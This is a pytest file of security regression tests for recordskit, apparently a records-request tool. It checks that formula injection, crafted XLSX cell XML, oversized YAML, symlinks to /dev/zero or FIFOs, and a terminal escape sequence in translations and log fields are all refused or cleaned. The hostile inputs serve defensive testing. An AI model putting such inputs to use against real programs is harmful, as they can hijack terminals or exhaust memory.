def test_no_spreadsheet_cell_runs_a_formula(formula: str, tmp_path: Path) -> None:
    """Defect 13 as reported (a record title from the directory, written live by
    ``batch --template``), and its class: each formula shape, from the directory and from a
    batch's rows, in every spreadsheet and CSV recordskit writes."""
    from recordskit.text import formula_like

    agencies = _directory_with_title(tmp_path, formula)
    validated = invoke("agencies", "validate", str(agencies))
    assert "Traceback" not in validated.output
    for name in ("template.xlsx", "template.csv"):
        made = invoke("--agencies", str(agencies), "batch", "--template", str(tmp_path / name))
        assert made.exit_code == 0, made.output
    cells = _xlsx_cells(tmp_path / "template.xlsx")
    assert any(cell.value == formula.strip() for cell in cells)  # written, as the file has it
    for cell in cells:
        assert cell.data_type != "f", cell.value
    for cell in _csv_cells(tmp_path / "template.csv"):
        assert not formula_like(cell), cell
    # A batch's own files: manifest.csv, errors.csv and each schedule.csv.
    rows = tmp_path / "rows.csv"
    import csv

    with rows.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["row_id", "agency", "records", "other_records", "requester.name",
                         "requester.email", "delivery", "sent_on"])
        writer.writerow(["r1", "bps", "school-police-reports-shared-with-bric", formula,
                         formula.strip(), "a@example.org", "email", "2026-06-12"])
        writer.writerow([formula, "nowhere", "", "", "", "a@example.org", "email",
                         "2026-06-12"])
    invoke("--agencies", str(agencies), "batch", str(rows), "--out", str(tmp_path / "out"))
    written = [*(tmp_path / "out").glob("*.csv"), *(tmp_path / "out").glob("*/*.csv")]
    assert {p.name for p in written} >= {"manifest.csv", "errors.csv", "schedule.csv"}
    for path in written:
        for cell in _csv_cells(path):
            assert not formula_like(cell), (path.name, cell)


def test_every_spreadsheet_writer_goes_through_the_serializer() -> None:
    """The class, statically: no module writes a CSV row but ``text.csv_document``, and no
    module writes an XLSX cell but ``spreadsheet.append_row``."""
    from tests.conftest import ROOT

    package = ROOT / "src" / "recordskit"
    for path in package.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        name = str(path.relative_to(package))
        if name != "text.py":
            assert "csv.writer" not in text and "DictWriter" not in text, name
        if "openpyxl" in text and name != "intake/rows.py":
            body = text.replace("def append_row", "")
            assert name == "documents/batch/spreadsheet.py", name
            assert re.findall(r"\.append\(", body) == [".append("], name  # append_row's own
            assert ".cell(" not in body.replace("sheet.cell(row=1, column=index)", ""), name


# 21. Crafted XLSX cells are a problem of their row, never a traceback.
def _crafted_xlsx(path: Path, cell_xml: str) -> Path:
    import io
    import zipfile

    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["row_id", "agency", "records", "requester.name", "requester.email",
                  "delivery", "sent_on"])
    sheet.append(["r1", "bps", "school-police-reports-shared-with-bric", "Ana",
                  "a@example.org", "email", "2026-06-12"])
    plain = io.BytesIO()
    workbook.save(plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w") as new:
        for info in old.infolist():
            data = old.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(r'<c r="A2"[^>]*>.*?</c>', cell_xml, data.decode(),
                              count=1).encode()
            new.writestr(info, data)
    return path


CRAFTED_CELLS = {
    "an invalid t=d value": '<c r="A2" t="d"><v>not-a-date</v></c>',
    "a date past year 9999": '<c r="A2" t="d"><v>99999-01-01</v></c>',
    "a non-numeric <v>": '<c r="A2"><v>abc</v></c>',
    "NaN as a number": '<c r="A2"><v>nan</v></c>',
    "a bad cell reference": '<c r="!!"><v>1</v></c>',
    "a column past ZZZ": '<c r="ZZZZZZ2"><v>1</v></c>',
    "a shared string out of range": '<c r="A2" t="s"><v>999</v></c>',
    "a negative shared string": '<c r="A2" t="s"><v>-5</v></c>',
    "a shared string that is not a number": '<c r="A2" t="s"><v>abc</v></c>',
    "a boolean that is not one": '<c r="A2" t="b"><v>x</v></c>',
}


@pytest.mark.parametrize("shape", list(CRAFTED_CELLS))
@pytest.mark.parametrize("check", [True, False])
def test_a_crafted_xlsx_cell_is_a_clear_error(shape: str, check: bool, tmp_path: Path) -> None:
    """Defect 21 and its class: each way a sheet's XML can write a cell no spreadsheet program
    writes, through ``batch`` and ``batch --check``."""
    path = _crafted_xlsx(tmp_path / "rows.xlsx", CRAFTED_CELLS[shape])
    args = ["batch", str(path), "--check"] if check else ["batch", str(path), "--out",
                                                           str(tmp_path / "out")]
    result = invoke(*args)
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert "rows.xlsx:2: a cell of this row cannot be read" in result.output, result.output


# 11. Limits bound time and memory, not only bytes.
def test_a_yaml_batch_is_bounded_by_its_values(tmp_path: Path) -> None:
    """Defect 11: a 20 MB YAML batch, within the old 50 MB limit, took 257 s and 2.56 GB.
    A YAML batch has its own byte limit, and every YAML input a limit of values, checked on
    libyaml's events before a node is built: each refused in about a second."""
    import time

    from recordskit.intake.rows import read_rows

    row = ("- {row_id: r, agency: bps, records: [school-police-reports-shared-with-bric], "
           "requester: {name: Ana, email: a@example.org}, delivery: email}\n")
    big = tmp_path / "big.yaml"
    big.write_text(row * (20_000_000 // len(row)))
    dense = tmp_path / "dense.yaml"  # 600,000 values in 1.8 MB, under the byte limit
    dense.write_text("- [" + "a, " * 600_000 + "a]\n")
    for path, message in ((big, r"over the limit of 10,000,000 bytes.*"
                                r"RECORDSKIT_MAX_BATCH_YAML_BYTES"),
                          (dense, r"over the limit of 500,000 values.*"
                                  r"RECORDSKIT_MAX_YAML_NODES")):
        started = time.perf_counter()
        with pytest.raises(InputFileError, match=message):
            read_rows(path)
        assert time.perf_counter() - started < 10


# 9. Every file read is a regular file, read within a bound; recordskit's own never through a
# link.
def _batch_made(tmp_path: Path) -> tuple[Path, Path]:
    rows = _rows_file(tmp_path)
    out = tmp_path / "out"
    made = invoke("batch", str(rows), "--out", str(out), "--no-log")
    assert made.exit_code == 0, made.output
    return rows, out


def _link(path: Path, to: str) -> None:
    path.unlink(missing_ok=True)
    path.symlink_to(to)


SPECIAL = ["/dev/zero", "/dev/urandom"]


@pytest.mark.parametrize("target", SPECIAL)
@pytest.mark.parametrize("where", ["manifest.csv", "errors.csv", "calendar.ics",
                                   "a row's answers.yaml", "a row's schedule.ics"])
def test_a_batch_never_reads_a_special_file_in_its_folder(where: str, target: str,
                                                         tmp_path: Path) -> None:
    """Defect 9 as reported (a link to /dev/zero at out/manifest.csv, out/errors.csv or a
    row's answers.yaml gave a MemoryError), and the batch's other files: a clear error, or the
    row reported; never memory."""
    rows, out = _batch_made(tmp_path)
    [row_folder] = [p for p in out.iterdir() if p.is_dir()]
    path = {"a row's answers.yaml": row_folder / "answers.yaml",
            "a row's schedule.ics": row_folder / "schedule.ics"}.get(where, out / where)
    _link(path, target)
    again = invoke("batch", str(rows), "--out", str(out), "--no-log")
    assert not isinstance(again.exception, MemoryError), again.output
    assert again.exception is None or isinstance(again.exception, SystemExit), again.output
    assert "Traceback" not in again.output
    assert again.exit_code == 1, again.output
    assert "symbolic link" in again.output, again.output
    assert path.is_symlink()  # nothing written through it


@pytest.mark.parametrize("target", SPECIAL)
def test_a_template_that_is_a_special_file_is_refused(target: str, tmp_path: Path,
                                                      answers: Answers) -> None:
    """Defect 9: a template linked to /dev/zero, at every door that reads templates."""
    import shutil

    from recordskit.documents.template_check import check_template
    from recordskit.errors import TemplateError
    from recordskit.service import LetterTemplate
    from tests.conftest import FROZEN_TEMPLATES

    folder = tmp_path / "templates"
    shutil.copytree(FROZEN_TEMPLATES, folder)
    _link(folder / "request.docx", target)
    with pytest.raises(TemplateError, match="not a regular file"):
        LetterTemplate(folder / "request.docx")
    assert any("not a regular file" in p.message for p in check_template(folder /
                                                                         "request.docx"))
    path = tmp_path / "a.yaml"
    path.write_text(yaml.safe_dump(answers()))
    for args in (["new", "--answers", str(path), "--out", str(tmp_path / "o")],
                 ["templates", "check", str(folder)]):
        result = invoke(*args, env={"RECORDSKIT_TEMPLATES": str(folder)})
        assert result.exit_code == 1 and "not a regular file" in result.output, (args,
                                                                                 result.output)


@pytest.mark.parametrize("target", ["/dev/zero", "a fifo", "a folder"])
def test_every_input_door_refuses_a_special_file(target: str, tmp_path: Path) -> None:
    """The class, at the doors a person names a file: each refuses a device, a pipe (which
    would wait for ever) and a folder, unread."""
    import os

    if target == "a fifo":
        special = tmp_path / "fifo"
        os.mkfifo(special)
    elif target == "a folder":
        special = tmp_path / "folder"
        special.mkdir()
    else:
        special = Path(target)
    doors: dict[str, list[str]] = {}
    for suffix in (".yaml", ".csv", ".xlsx", ".jsonl"):
        link = tmp_path / f"input{suffix}"
        _link(link, str(special))
        doors[f"new --answers {suffix}"] = ["new", "--answers", str(link), "--out",
                                            str(tmp_path / "o")]
        doors[f"batch {suffix}"] = ["batch", str(link), "--check"]
    doors["agencies validate"] = ["agencies", "validate", str(tmp_path / "input.yaml")]
    doors["--agencies"] = ["--agencies", str(tmp_path / "input.yaml"), "status"]
    doors["log import"] = ["log", "import", str(tmp_path / "input.jsonl")]
    for door, args in doors.items():
        result = invoke(*args)
        assert result.exit_code != 0, (door, result.output)
        assert result.exception is None or isinstance(result.exception, SystemExit), (
            door, result.output)


def test_no_module_reads_a_file_but_through_the_bounded_reader() -> None:
    """The class, statically: every file read in the modules of this class goes through
    ``files.open_regular`` / ``read_limited`` (or ``inputfile``, which does)."""
    from tests.conftest import ROOT

    package = ROOT / "src" / "recordskit"
    reads = re.compile(r"\.read_bytes\(\)|(?<!inputfile)\.read_text\(|(?<![\w.])open\(|"
                       r"\.open\(\"r")
    mine = ["files.py", "inputfile.py", "intake/rows.py", "documents/batch/run.py",
            "documents/batch/state.py", "documents/batch/worker.py",
            "documents/rendering/render.py", "documents/template_check.py",
            "documents/rendering/pdf.py", "documents/rendering/package.py",
            "documents/batch/spreadsheet.py", "documents/email_draft.py", "directory/load.py",
            "directory/edit.py", "directory/copies.py", "tracking/transfer.py",
            "tracking/log.py", "tracking/sqlite.py"]
    allowed = {"directory/edit.py": ["def open(cls"],
               "files.py": ['Path(f"/proc/{pid}/stat").read_text()', 'path.open("rb")']}
    for name in mine:
        text = (package / name).read_text(encoding="utf-8")
        for line in text.splitlines():
            if reads.search(line) and not any(ok in line for ok in allowed.get(name, [])):
                raise AssertionError(f"{name}: {line.strip()}")


# 6. Everything printed goes through the one cleaner, titles and headers included.
ESCAPE = "\x1b]0;owned\x07\x1b[2J"
"""An escape sequence that retitles the terminal window and clears the screen."""


@pytest.mark.parametrize("msgid", ["Events", "date", "Request {id}", "Date", "Your dates",
                                   "by", "What"])
def test_no_translated_title_or_header_reaches_the_terminal_raw(
        msgid: str, catalogs: Any, tmp_path: Path,  # noqa: F811 (the fixture)
        answers: Answers) -> None:
    """Defect 6 and its class: a catalog's translation of a table title, a column header or
    a line built in parts carries an escape sequence; no command prints it."""
    placeholder = " {id}" if "{id}" in msgid else ""
    catalogs("es", translated(msgid, f"X{ESCAPE}{placeholder}"))
    path = tmp_path / "a.yaml"
    path.write_text(yaml.safe_dump(answers(language="es")))
    made = invoke("new", "--answers", str(path), "--out", str(tmp_path / "o"), "--lang", "es")
    assert made.exit_code == 0, made.output
    [logged] = open_log().all()
    invoke("log", logged.id, "received", "--on", "2026-06-12")
    for result in (made, invoke("show", logged.id, "--lang", "es"),
                   invoke("status", "--lang", "es")):
        assert "\x1b" not in result.output and "\x07" not in result.output, result.output


def test_text_from_the_log_is_cleaned_wherever_it_is_printed(tmp_path: Path,
                                                           answers: Answers) -> None:
    """The class, from the data's side: a name and a folder the log holds, with escapes (a log
    written by an older release, or by hand), are printed clean by show and status."""
    path = tmp_path / "a.yaml"
    path.write_text(yaml.safe_dump(answers()))
    invoke("new", "--answers", str(path), "--out", str(tmp_path / "o"))
    [logged] = open_log().all()
    with sqlite3.connect(Path(open_log().location)) as db:
        db.execute("UPDATE requests SET created_by = ?, folder = ?, batch_id = ?",
                   (f"Ana{ESCAPE}", f"/tmp/o{ESCAPE}", f"b{ESCAPE}"))
    for args in (["show", logged.id], ["status"], ["status", "--json"]):
        result = invoke(*args)
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output, (args,
                                                                              result.output)


def test_every_guarantee_names_tests_that_exist() -> None:
    """README's security section names, for each guarantee, the tests that prove it: each
    named test exists."""
    from tests.conftest import ROOT

    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## Security and privacy"):readme.index("## For developers")]
    named = set(re.findall(r"`(test_\w+)`", section))
    defined = {match for path in (ROOT / "tests").rglob("test_*.py")
               for match in re.findall(r"^def (test_\w+)", path.read_text(encoding="utf-8"),
                                       re.MULTILINE)}
    assert named and not named - defined, sorted(named - defined)


def test_a_file_read_by_workers_is_checked_and_imported_as_one_read_here(
        backend: str, tmp_path: Path, directory: Directory, answers: Answers,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A large file's lines are read by worker processes, a batch each: every problem is
    found as when this process reads them all (lines split across batches, a request given
    twice, an event's uid and number given twice, an undo of another request's event, lines
    that are not JSON or not UTF-8), and a good file goes in the same."""
    from recordskit.tracking import transfer

    path, items, ids = _export(tmp_path, directory, answers, count=6)
    first = next(item for item in items if item["type"] == "event")
    bad = [*items,
           {**items[0], "folder": "/elsewhere"},  # the first request, given differently
           {**first, "seq": 900},  # its uid again
           {**first, "uid": "a" * 32},  # its number again
           {**first, "uid": "b" * 32, "seq": 901, "event": "undo", "request_id": ids[1],
            "details": {"undoes": first["seq"], "event": "received"}},
           {**first, "uid": "c" * 32, "seq": 902, "on_date": "2026-02-30"}]
    broken = tmp_path / "broken.jsonl"
    broken.write_bytes(_lines(tmp_path / "text.jsonl", bad).read_bytes()
                       + b"\n{not json\n" + b'{"type": "request", "id": "caf\xe9"}\n')
    log = open_log()

    def refused() -> str:
        with pytest.raises(InputFileError) as found:
            import_log(log, broken)
        return str(found.value)

    here = refused()
    assert here.count(str(broken)) >= 7, here
    monkeypatch.setattr(transfer, "PARALLEL_BYTES", 0)
    monkeypatch.setattr(transfer, "LINES_A_BATCH", 2)
    assert threading.active_count() == 1  # the workers are forked: nothing else runs here
    assert refused() == here
    assert _contents(log) == ([], [])
    assert import_log(log, path) == (6, 6)
    assert import_log(log, path) == (0, 0)
    exported = tmp_path / "again.jsonl"
    export_log(log, exported)
    assert sorted(json.loads(line)["id"] for line in exported.read_text().splitlines()
                  if '"request"' in line) == sorted(ids)


def test_an_import_interrupted_inside_its_transaction_leaves_nothing(
        backend: str, tmp_path: Path, directory: Directory, answers: Answers,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The class, at the write itself: whatever fails while the rows go in (a disk, a
    server, a bug), the requests already written go back out with it: one transaction."""
    from recordskit.tracking.ledger import Ledger

    path, items, _ids = _export(tmp_path, directory, answers, count=3)
    log = open_log()
    kept = request_from(answers(requester__name="Kept", sent_on="2026-06-01"), directory)
    log.record_request(kept.fingerprint(), kept)
    before = _contents(log)
    events = sum(1 for item in items if item["type"] == "event")
    seen: list[str] = []
    checked = Ledger.new_events

    def failing(ledger: Ledger) -> Any:
        # The rows go in as the check kept them. Fail at the writing's second event, after
        # every request and one event went in.
        for row in checked(ledger):
            seen.append(row.uid)
            if len(seen) == 2:
                raise RuntimeError("the disk is gone")
            yield row

    monkeypatch.setattr(Ledger, "new_events", failing)
    with pytest.raises(RuntimeError, match="the disk is gone"):
        import_log(log, path)
    assert len(seen) == 2 and events >= 2
    assert _contents(log) == before


def test_a_file_written_by_hand_with_escapes_and_renumbered_undos_imports_and_again(
        backend: str, tmp_path: Path, directory: Directory, answers: Answers) -> None:
    """The writing reads only the lines of its kind, found by a mark: a line whose kind is
    written with \\u escapes still goes in. And a file whose event numbers are not the log's
    (its undo renumbered when it went in) imports a second time as adding nothing."""
    path, items, [request_id] = _export(tmp_path, directory, answers)
    event = next(item for item in items if item["type"] == "event")
    renumbered = [{**item, "seq": item["seq"] + 100} if item["type"] == "event" else item
                  for item in items]
    renumbered.append({**event, "seq": event["seq"] + 500, "uid": "e" * 32, "event": "undo",
                       "details": {"undoes": event["seq"] + 100, "event": event["event"]}})
    text = "".join(json.dumps(item) + "\n" for item in renumbered)
    escaped = text.replace('"type": "request"', '"type": "\\u0072equest"', 1)
    assert escaped != text
    path.write_text(escaped)
    log = open_log()
    assert import_log(log, path) == (1, len(renumbered) - 1)
    assert import_log(log, path) == (0, 0)
    logged = log.get(request_id)
    assert [e.event for e in logged.active_events] == []  # the undo undid its event


def test_a_file_changed_between_its_check_and_its_writing_writes_nothing(
        backend: str, tmp_path: Path, directory: Directory, answers: Answers,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """An import reads its file twice (checked whole, then written): a line changed in between
    would go in unchecked, so the writing compares the file's digest and stops inside its
    transaction."""
    from recordskit.tracking import transfer

    path, _items, _ids = _export(tmp_path, directory, answers, count=2)
    log = open_log()
    log.create()
    before = _contents(log)
    checking = transfer._check

    def then_changed(log: Any, path: Path) -> Any:
        checked = checking(log, path)
        with path.open("ab") as handle:  # a line added once the file was checked
            handle.write(b"\n")
        return checked

    monkeypatch.setattr(transfer, "_check", then_changed)
    with pytest.raises(UserError, match="changed while it was imported; nothing of it"):
        import_log(log, path)
    assert _contents(log) == before


def test_an_imported_extension_without_its_date_never_crashes_appeal(
        tmp_path: Path, directory: Directory, answers: Answers) -> None:
    """Defect 18: an imported ``extension`` without ``until`` crashed ``appeal`` (KeyError).
    Typed events read it as an extension with no date, and every command still answers."""
    path, items, [request_id] = _export(tmp_path, directory, answers)
    event = next(item for item in items if item["type"] == "event")
    items.append({**event, "seq": event["seq"] + 1, "uid": "f" * 32,
                  "on_date": "2026-12-01", "event": "response",
                  "details": {"kind": "extension"}})
    imported = invoke("log", "import", str(_lines(path, items)))
    assert imported.exit_code == 0, imported.output
    for command in (["appeal", request_id, "--out", str(tmp_path / "appeal"), "--objection",
                     "The extension names no date."],
                    ["followup", request_id, "--out", str(tmp_path / "followup")],
                    ["show", request_id], ["status", "--json"]):
        result = invoke(*command, env={"RECORDSKIT_TODAY": "2026-12-20"})
        assert result.exit_code in (0, 1), (command, result.output)
        assert result.exception is None or isinstance(result.exception, SystemExit), (
            command, result.exception)
        assert "Traceback" not in result.output
